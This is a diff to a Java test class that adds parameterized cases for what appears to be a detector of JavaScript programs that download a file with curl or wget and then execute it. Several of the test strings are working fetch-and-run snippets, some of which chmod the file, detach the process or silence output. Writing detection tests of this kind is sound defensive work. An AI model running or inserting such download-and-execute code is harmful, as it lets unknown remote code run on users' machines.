@@ -123,6 +123,34 @@ class ProgramFileTest {
         assertThat(kinds(program)).isEmpty();
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "spawnSync('curl', ['-so', '/tmp/x', 'https://a.example/x']);\nspawnSync('/tmp/x');",
+                "const f = path.join(os.tmpdir(), 'x');\nexecFileSync('curl', ['-o', f, url]);\nspawn(f, [], {detached: true});",
+                "execFile('wget', ['-O', '/tmp/x', u], () => { fs.chmodSync('/tmp/x', 0o755); execFile('/tmp/x'); });",
+                "execFileSync('curl', ['-o', path.join(dir, 'x'), url]);\nexecFileSync(path.join(dir, 'x'), ['-d']);",
+                "execFileSync('curl', ['-o', d + '/x', url], {stdio: 'ignore'});\nexec(`${d}/x --now`);",
+            })
+    void whatAProgramFetchesByAnotherAndStarts(String program) {
+        assertThat(kinds(program)).containsExactly(Kind.RUNS_TOOL);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "spawnSync('curl', ['-Lo', 'x.tgz', url]);\nspawnSync('tar', ['xf', 'x.tgz']);\nspawnSync('make');",
+                "execFileSync('curl', ['-o', f, url]);\nif (createHash('sha256').update(read(f)).digest('hex') !== sum) throw 1;\n"
+                        + "execFileSync(f);",
+                "execFileSync('curl', ['-o', a, url]);\nexecFileSync(b);",
+                "if (a) spawn('curl', ['-o', '/tmp/x', url]); else spawn('wget', ['-O', '/tmp/x', url]);",
+                "spawn('echo', ['curl', '-o', '/tmp/x', url]);\nspawn('/tmp/x');",
+                "const r = spawnSync('curl', ['-s', url]).stdout.toString();\nspawnSync(process.execPath, ['build.js', r]);",
+            })
+    void whatAProgramFetchesByAnotherAndDoesNotStart(String program) {
+        assertThat(kinds(program)).isEmpty();
+    }
+
     @Test
     void aBundleIsJudgedInParts() {
         String filler = "var a = 'b', c = require('d');\nfunction e(f) { return f.g; }\n".repeat(20_000);
